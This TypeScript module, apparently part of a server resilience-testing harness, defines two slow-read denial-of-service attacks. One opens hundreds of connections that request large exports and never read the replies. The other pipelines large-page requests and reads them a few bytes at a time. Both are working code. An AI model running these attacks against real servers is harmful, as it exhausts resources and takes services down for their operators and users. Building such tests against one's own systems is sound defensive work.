import { setInterval as every } from 'node:timers';
import type { Attack, Target } from './attack.ts';
import { between, pick } from './attack.ts';
import { holdConnections } from './raw-connection.ts';

const [FEWEST, MOST] = [200, 301];
const SIP_BYTES = 512;
const SIP_EVERY_MS = 200;

const largeAnswers = ({ vastIds }: Target) => [
  '/api/export?format=jsonl',
  '/api/export?format=csv',
  ...vastIds.flatMap((id) => [`/articles/${id}`, `/api/articles/${id}`]),
];
const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`;

/** Exports and large pages that are asked for and never read. */
export const unreadAnswers: Attack = {
  name: 'unread answers',
  isIdle: true,
  async run(target, random) {
    const paths = Array.from({ length: between(FEWEST, MOST, random) }, () =>
      pick(['/api/export?format=jsonl', '/api/export?format=csv'], random),
    );
    await holdConnections(
      target,
      paths.length,
      (number) => get(paths[number]!),
      (connections) => connections.forEach(({ socket }) => socket.pause()),
    );
  },
};

/** Large answers, many of them in a row on one connection, of which some bytes are read now and then. */
export const slowReaders: Attack = {
  name: 'slow readers',
  async run(target, random) {
    const requests = Array.from({ length: between(20, 60, random) }, () =>
      get(pick(largeAnswers(target), random)).repeat(between(1, 4, random)),
    );
    const timers: NodeJS.Timeout[] = [];
    await holdConnections(
      target,
      requests.length,
      (number) => requests[number]!,
      (connections) => {
        for (const { socket } of connections) {
          socket.pause();
          timers.push(every(() => void socket.read(SIP_BYTES), SIP_EVERY_MS));
        }
      },
    );
    for (const timer of timers) clearInterval(timer);
  },
};
